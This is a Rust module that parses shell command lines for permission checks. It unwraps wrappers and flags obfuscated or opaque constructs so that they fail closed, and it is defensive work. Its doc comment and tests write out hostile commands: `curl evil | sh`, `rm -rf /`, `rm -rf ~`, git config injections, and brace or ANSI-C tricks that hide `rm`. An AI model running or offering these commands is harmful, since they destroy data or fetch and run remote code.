//! What a shell command line runs, for permission checks: a real parser (tree-sitter-bash, as
//! Codex uses for its command safety checks), failing closed.
//!
//! `git status && curl evil | sh` is three commands, and a rule allowing `git *` must not allow
//! the other two. Every simple command is found — in lists, pipelines, subshells, `{ }`
//! groups, `$( )`, backticks, `<( )`, heredoc bodies that expand, `bash -c '…'` — and given in
//! the forms a rule may match: as written, by program name (`/bin/rm` is `rm`), and unwrapped from
//! wrappers (`sudo`, `env`, `timeout`, `nice`, `xargs`, …).
//!
//! A command line is **opaque** when something in it cannot be known from the text: a parse
//! error, a function definition (a function named `git` runs instead of git), a variable
//! assignment, any expansion (`$x`, `${x}`, `$( )`, `$(( ))`, `<( )`), ANSI-C or locale quoting
//! (`$'\x72m'` is `rm`), `eval`/`source`/`alias`/`trap`, a `git` option that changes what git runs
//! (`-c`, `--config-env`, `-C`, `--exec-path`, `--git-dir`, `--work-tree`) or a git subcommand
//! that is not a built-in one (it may be an alias). An opaque line never matches an allow rule:
//! see `Permissions::decide`.

use tree_sitter::{Node, Parser};

/// What a command line runs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Analysis {
    /// Each simple command, in the forms a rule may match (the innermost, unwrapped, last).
    pub commands: Vec<Vec<String>>,
    /// Why the line is opaque, if it is (the first reason found).
    pub opaque: Option<String>,
    /// What it writes to files, as written: redirection targets (`> F`) and writing flags
    /// (`--output=F`, `curl -o F`); see [`super::writes`].
    pub writes: Vec<String>,
}

impl Analysis {
    fn opaque(&mut self, why: impl Into<String>) {
        if self.opaque.is_none() {
            self.opaque = Some(why.into());
        }
    }
}

/// Nesting deeper than this (`bash -c "bash -c '…'"`) is opaque.
const MAX_DEPTH: usize = 6;

/// Analyse a command line.
pub fn analyse(line: &str) -> Analysis {
    let mut a = Analysis::default();
    analyse_into(line, &mut a, 0);
    a
}

fn analyse_into(line: &str, a: &mut Analysis, depth: usize) {
    if depth > MAX_DEPTH {
        a.opaque("commands nested too deep");
        return;
    }
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_bash::LANGUAGE.into())
        .is_err()
    {
        a.opaque("the shell parser could not start");
        return;
    }
    let Some(tree) = parser.parse(line, None) else {
        a.opaque("the command could not be parsed");
        return;
    };
    let root = tree.root_node();
    if root.has_error() {
        a.opaque("the command does not parse as shell");
    }
    walk(root, line.as_bytes(), a, depth);
}

/// Node kinds that only group other statements.
const CONTAINERS: &[&str] = &[
    "program",
    "list",
    "pipeline",
    "subshell",
    "compound_statement",
    "redirected_statement",
    "negated_command",
    "if_statement",
    "elif_clause",
    "else_clause",
    "while_statement",
    "do_group",
    "heredoc_redirect",
    "heredoc_body",
    "herestring_redirect",
    "file_redirect",
    "command_substitution",
    "process_substitution",
    "comment",
    "heredoc_start",
    "heredoc_end",
    "heredoc_content",
    "file_descriptor",
    "test_command",
    "unary_expression",
    "binary_expression",
    "test_operator",
    "string",
    "string_content",
    "raw_string",
    "word",
    "number",
    "concatenation",
    "command_name",
    "variable_name",
];

/// Node kinds whose value is not in the text.
fn opaque_kind(kind: &str) -> Option<&'static str> {
    Some(match kind {
        "function_definition" => "a function definition",
        "variable_assignment" | "variable_assignments" => "a variable assignment",
        "declaration_command" | "unset_command" => "export, declare, local or unset",
        "simple_expansion" | "expansion" => "a variable expansion",
        "arithmetic_expansion" => "an arithmetic expansion",
        "command_substitution" => "a command substitution",
        "process_substitution" => "a process substitution",
        "ansi_c_string" => "ANSI-C quoting ($'…')",
        "translated_string" => "locale quoting ($\"…\")",
        "for_statement" | "c_style_for_statement" | "case_statement" => "a loop or case",
        "brace_expression" => "a brace expansion",
        _ => return None,
    })
}

fn walk(node: Node, src: &[u8], a: &mut Analysis, depth: usize) {
    let kind = node.kind();
    // `NAME=value cmd`: the command itself judges its assignments (some names are harmless).
    let command_prefix =
        kind == "variable_assignment" && node.parent().is_some_and(|p| p.kind() == "command");
    if let Some(why) = opaque_kind(kind)
        && !command_prefix
    {
        a.opaque(why);
    }
    if kind == "heredoc_redirect" {
        heredoc(node, src, a);
    }
    if kind == "file_redirect"
        && let Some(target) = super::writes::redirect_target(node, src)
    {
        a.writes.push(target);
    }
    if kind == "command" {
        command(node, src, a, depth);
    } else if !CONTAINERS.contains(&kind) && opaque_kind(kind).is_none() && node.is_named() {
        a.opaque(format!("shell syntax deputy does not analyse ({kind})"));
    }
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        walk(child, src, a, depth);
    }
}

/// A heredoc whose delimiter is not quoted expands `$…` and backticks in its body (the parser
/// does not always see backticks there, so the text itself is looked at).
fn heredoc(node: Node, src: &[u8], a: &mut Analysis) {
    let mut cursor = node.walk();
    let mut quoted = false;
    for child in node.children(&mut cursor) {
        let text = child.utf8_text(src).unwrap_or("");
        match child.kind() {
            "heredoc_start" => quoted = text.contains(['\'', '"', '\\']),
            "heredoc_body" if !quoted && text.contains(['$', '`']) => {
                a.opaque("a heredoc whose body expands");
            }
            _ => {}
        }
    }
}

/// One simple command: its words (when all are literal), in every form a rule may match.
fn command(node: Node, src: &[u8], a: &mut Analysis, depth: usize) {
    let mut words = Vec::new();
    let mut literal = true;
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        match child.kind() {
            "variable_assignment" => {
                // `NAME=value cmd`: only names that cannot change what the command runs.
                let name = child
                    .child_by_field_name("name")
                    .and_then(|n| n.utf8_text(src).ok())
                    .unwrap_or("");
                if !SAFE_ASSIGNMENTS.contains(&name) {
                    a.opaque(format!("the variable {name} set for the command"));
                }
            }
            "command_name" => match child.child(0).and_then(|w| literal_text(w, src)) {
                Some(w) => words.push(w),
                None => literal = false,
            },
            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {}
            _ if child.is_named() => match literal_text(child, src) {
                Some(w) => words.push(w),
                None => literal = false,
            },
            _ => {}
        }
    }
    if !literal {
        a.opaque("a word whose value is not in the text");
    }
    if words.is_empty() {
        return;
    }
    // `/bin/r?` runs `/bin/rm`: a glob in the program name is matched against files.
    if words[0].contains(['*', '?', '[']) {
        a.opaque(format!("a pattern as the program name ({})", words[0]));
    }
    a.writes.extend(super::writes::writing_flags(&words));
    let mut forms = Vec::new();
    let mut nested = Vec::new();
    unwrap(words, &mut forms, &mut nested, a, 0);
    forms.dedup();
    if !forms.is_empty() {
        a.commands.push(forms);
    }
    for script in nested {
        analyse_into(&script, a, depth + 1);
    }
}

/// Variables a command may be given that do not change what it runs.
const SAFE_ASSIGNMENTS: &[&str] = &[
    "LANG", "LC_ALL", "LC_CTYPE", "TZ", "NO_COLOR", "TERM", "COLUMNS",
];

/// The value of a word made only of literal text, as bash would pass it; `None` when any part
/// of it is computed.
fn literal_text(node: Node, src: &[u8]) -> Option<String> {
    let text = node.utf8_text(src).ok()?;
    match node.kind() {
        // `{rm,-rf,x}` is `rm -rf x`: brace expansion makes words the text does not show.
        "word" if brace_expansion(text) => None,
        "word" => Some(unescape_unquoted(text)),
        "number" => Some(text.to_string()),
        "raw_string" => Some(
            text.trim_start_matches('\'')
                .trim_end_matches('\'')
                .to_string(),
        ),
        "string" => {
            let mut out = String::new();
            let mut cursor = node.walk();
            for c in node.named_children(&mut cursor) {
                if c.kind() != "string_content" {
                    return None;
                }
                out.push_str(&unescape_double(c.utf8_text(src).ok()?));
            }
            Some(out)
        }
        "concatenation" => {
            let mut out = String::new();
            // The unquoted parts, where braces would expand (tree-sitter splits `{a,b}`).
            let mut bare = String::new();
            let mut cursor = node.walk();
            for c in node.named_children(&mut cursor) {
                let part = literal_text(c, src)?;
                if c.kind() == "word" {
                    bare.push_str(c.utf8_text(src).ok()?);
                } else {
                    bare.push('_');
                }
                out.push_str(&part);
            }
            (!brace_expansion(&bare)).then_some(out)
        }
        _ => None,
    }
}

/// Whether an unquoted word would be brace-expanded (`{a,b}`, `{1..3}`).
fn brace_expansion(text: &str) -> bool {
    let mut escaped = false;
    let mut open = None;
    for (i, c) in text.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '{' => open = Some(i),
            '}' => {
                if let Some(o) = open
                    && (text[o..i].contains(',') || text[o..i].contains(".."))
                {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// An unquoted word: a backslash quotes the next character.
fn unescape_unquoted(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inside double quotes a backslash only quotes `$`, `` ` ``, `"`, `\` and a newline.
fn unescape_double(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' && matches!(chars.peek(), Some('$' | '`' | '"' | '\\' | '\n')) {
            if let Some(n) = chars.next()
                && n != '\n'
            {
                out.push(n);
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Options of a wrapper that take a value.
fn value_opts(wrapper: &str) -> &'static [&'static str] {
    match wrapper {
        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"],
        "env" => &["-u", "-C", "--unset", "--chdir"],
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "nice" => &["-n", "--adjustment"],
        "ionice" => &["-c", "-n", "-p", "-t"],
        "xargs" => &[
            "-n",
            "-I",
            "-P",
            "-d",
            "-L",
            "-s",
            "-E",
            "-a",
            "--max-args",
            "--max-procs",
            "--delimiter",
            "--arg-file",
        ],
        "stdbuf" => &["-i", "-o", "-e"],
        "exec" => &["-a"],
        _ => &[],
    }
}

const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "timeout", "nice", "ionice", "nohup", "command", "exec", "time",
    "stdbuf", "xargs", "setsid", "unbuffer", "builtin", "taskset", "chrt",
];

/// Built-ins that run text as code, or change what later commands mean.
const CODE_RUNNERS: &[&str] = &[
    "eval", "source", ".", "alias", "unalias", "trap", "enable", "hash",
];

/// git's own subcommands (`git help -a`); anything else may be an alias of the repository's.
const GIT_SUBCOMMANDS: &[&str] = &[
    "add",
    "am",
    "annotate",
    "apply",
    "archive",
    "bisect",
    "blame",
    "branch",
    "bundle",
    "cat-file",
    "check-attr",
    "check-ignore",
    "check-mailmap",
    "check-ref-format",
    "checkout",
    "checkout-index",
    "cherry",
    "cherry-pick",
    "clean",
    "clone",
    "column",
    "commit",
    "commit-graph",
    "commit-tree",
    "config",
    "count-objects",
    "describe",
    "diff",
    "diff-files",
    "diff-index",
    "diff-tree",
    "difftool",
    "fetch",
    "for-each-ref",
    "format-patch",
    "fsck",
    "gc",
    "grep",
    "hash-object",
    "help",
    "init",
    "interpret-trailers",
    "log",
    "ls-files",
    "ls-remote",
    "ls-tree",
    "maintenance",
    "merge",
    "merge-base",
    "merge-file",
    "merge-tree",
    "mergetool",
    "mv",
    "name-rev",
    "notes",
    "pull",
    "push",
    "range-diff",
    "rebase",
    "reflog",
    "remote",
    "repack",
    "replace",
    "reset",
    "restore",
    "rev-list",
    "rev-parse",
    "revert",
    "rm",
    "shortlog",
    "show",
    "show-branch",
    "show-ref",
    "sparse-checkout",
    "stash",
    "status",
    "stripspace",
    "submodule",
    "switch",
    "symbolic-ref",
    "tag",
    "update-index",
    "update-ref",
    "var",
    "verify-commit",
    "verify-tag",
    "version",
    "whatchanged",
    "worktree",
    "write-tree",
];

/// git options before the subcommand that change what git runs or which repository it reads.
const GIT_ARMING_OPTIONS: &[&str] = &[
    "-c",
    "--config-env",
    "-C",
    "--exec-path",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--super-prefix",
    "--attr-source",
    "--list-cmds",
];

fn unwrap(
    mut words: Vec<String>,
    forms: &mut Vec<String>,
    nested: &mut Vec<String>,
    a: &mut Analysis,
    depth: usize,
) {
    if words.is_empty() || depth > MAX_DEPTH {
        return;
    }
    forms.push(words.join(" "));
    // The program by its name, not its path: `/bin/rm` is `rm`.
    if words[0].contains('/') {
        let base = words[0].rsplit('/').next().unwrap_or_default().to_string();
        if !base.is_empty() {
            words[0] = base;
            forms.push(words.join(" "));
        }
    }
    let prog = words[0].as_str();
    if CODE_RUNNERS.contains(&prog) {
        a.opaque(format!("`{prog}`, which runs text as code"));
        return;
    }
    if matches!(prog, "bash" | "sh" | "zsh" | "dash" | "ksh") {
        match words.iter().position(|w| {
            w == "-c" || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('c'))
        }) {
            Some(pos) => match words.get(pos + 1) {
                Some(script) => nested.push(script.clone()),
                None => a.opaque(format!("`{prog} -c` without a script")),
            },
            // A script file, or commands on stdin: what runs is not in the text.
            None if words.len() > 1 || prog != "bash" => {
                a.opaque(format!("`{prog}` running a script"))
            }
            None => a.opaque(format!("`{prog}` reading commands from stdin")),
        }
        return;
    }
    if prog == "git" {
        git(&words, a);
        return;
    }
    if !WRAPPERS.contains(&prog) {
        return;
    }
    if prog == "env"
        && words
            .iter()
            .any(|w| w == "-S" || w.starts_with("--split-string"))
    {
        a.opaque("`env -S`, which splits a string into a command");
        return;
    }
    let takes_value = value_opts(prog);
    let mut j = 1;
    while j < words.len() {
        let w = &words[j];
        if w == "--" {
            j += 1;
            break;
        }
        if prog == "env" && w.contains('=') && !w.starts_with('-') {
            let name = w.split('=').next().unwrap_or("");
            if !SAFE_ASSIGNMENTS.contains(&name) {
                a.opaque(format!("the variable {name} set for the command"));
            }
            j += 1;
            continue;
        }
        if w.starts_with('-') && w.len() > 1 {
            let takes = takes_value.iter().any(|o| o == w);
            j += if takes { 2 } else { 1 };
            continue;
        }
        break;
    }
    // `timeout 10 cmd`, `taskset 0x3 cmd`, `chrt 5 cmd`: one positional before the command.
    if matches!(prog, "timeout" | "taskset" | "chrt") && j < words.len() {
        j += 1;
    }
    if j < words.len() {
        unwrap(words[j..].to_vec(), forms, nested, a, depth + 1);
    }
}

/// `git`: its subcommand must be one of its own, and no option before it may change what it
/// runs or which repository (and so which config) it reads.
fn git(words: &[String], a: &mut Analysis) {
    for w in &words[1..] {
        let opt = w.split('=').next().unwrap_or(w);
        if GIT_ARMING_OPTIONS.contains(&opt) || (w.starts_with("-c") && w.len() > 2) {
            a.opaque(format!("`git {w}`, which can change what git runs"));
            return;
        }
        if w.starts_with('-') {
            continue;
        }
        if !GIT_SUBCOMMANDS.contains(&w.as_str()) {
            a.opaque(format!(
                "`git {w}`, not one of git's own commands (it may be an alias)"
            ));
        }
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flat(line: &str) -> Vec<String> {
        analyse(line).commands.into_iter().flatten().collect()
    }

    fn opaque(line: &str) -> bool {
        analyse(line).opaque.is_some()
    }

    #[test]
    fn compound_commands() {
        assert_eq!(
            flat("git status && ls -la; echo hi | wc -l"),
            ["git status", "ls -la", "echo hi", "wc -l"]
        );
        assert!(!opaque("git status && ls -la; echo hi | wc -l"));
        assert_eq!(
            flat("(cd sub && git pull) || { ls; }"),
            ["cd sub", "git pull", "ls"]
        );
        assert_eq!(
            flat("git status 2>&1 | head -5 > out.txt"),
            ["git status", "head -5"]
        );
        assert!(!opaque("git status 2>&1 | head -5 > out.txt"));
        assert_eq!(flat("\"git\" st\"at\"us"), ["git status"]);
        assert_eq!(flat("r\\m -rf x"), ["rm -rf x"]);
        assert_eq!(flat("cat <<'EOF'\n$(rm x)\nEOF"), ["cat"]);
        assert!(
            !opaque("cat <<'EOF'\n$(rm x)\nEOF"),
            "a quoted heredoc is data"
        );
        assert_eq!(flat("git status # && rm x"), ["git status"]);
        assert_eq!(
            flat("git status # <<EOF\nrm -rf x"),
            ["git status", "rm -rf x"]
        );
    }

    #[test]
    fn what_is_opaque() {
        for line in [
            "git log <<EOF\n$(rm x)\nEOF",
            "git log <<EOF\n`rm x`\nEOF",
            "$'\\x72m' -rf x",
            "git() { rm x; }; git status",
            "git -c alias.x='!rm x' x",
            "git -c core.fsmonitor='rm x' status",
            "git --config-env=core.pager=X log",
            "git -C ../other status",
            "git st",
            "FOO=1 git status",
            "PATH=/tmp git status",
            "X=1; git status",
            "export GIT_PAGER=x; git log",
            "echo $HOME",
            "git log $(git rev-parse HEAD)",
            "echo `ls`",
            "cat <(ls)",
            "eval 'rm x'",
            "source ./x.sh",
            ". ./x.sh",
            "for f in a; do rm $f; done",
            "bash script.sh",
            "env -S 'rm x'",
            "echo {a,b}",
            "{rm,-rf,x}",
            "/bin/r? x",
            "git status; if",
        ] {
            assert!(opaque(line), "{line:?} should be opaque");
        }
        for line in [
            "git status",
            "LANG=C git status",
            "bash -c 'git status && ls'",
            "timeout 5 git log --oneline -5",
            "[[ -f x ]] && git diff",
            "if git diff --quiet; then echo clean; fi",
        ] {
            assert!(!opaque(line), "{line:?}: {:?}", analyse(line).opaque);
        }
    }

    #[test]
    fn substitutions_and_heredocs_still_show_their_commands() {
        assert_eq!(flat("git log $(rm -rf ~)"), ["git log", "rm -rf ~"]);
        assert_eq!(flat("git log <<EOF\n$(rm x)\nEOF"), ["git log", "rm x"]);
        assert_eq!(flat("bash -c 'rm -rf /'"), ["bash -c rm -rf /", "rm -rf /"]);
    }

    #[test]
    fn wrappers_are_unwrapped() {
        assert_eq!(
            analyse("sudo -u root rm -rf x").commands,
            [vec!["sudo -u root rm -rf x".to_string(), "rm -rf x".into()]]
        );
        assert_eq!(
            analyse("/usr/bin/env LANG=C nice -n 5 /bin/rm x").commands[0]
                .last()
                .unwrap(),
            "rm x"
        );
        assert_eq!(
            analyse("find . | xargs -n 1 rm").commands[1]
                .last()
                .unwrap(),
            "rm"
        );
        assert_eq!(
            analyse("timeout 10 rm x").commands[0].last().unwrap(),
            "rm x"
        );
    }
}
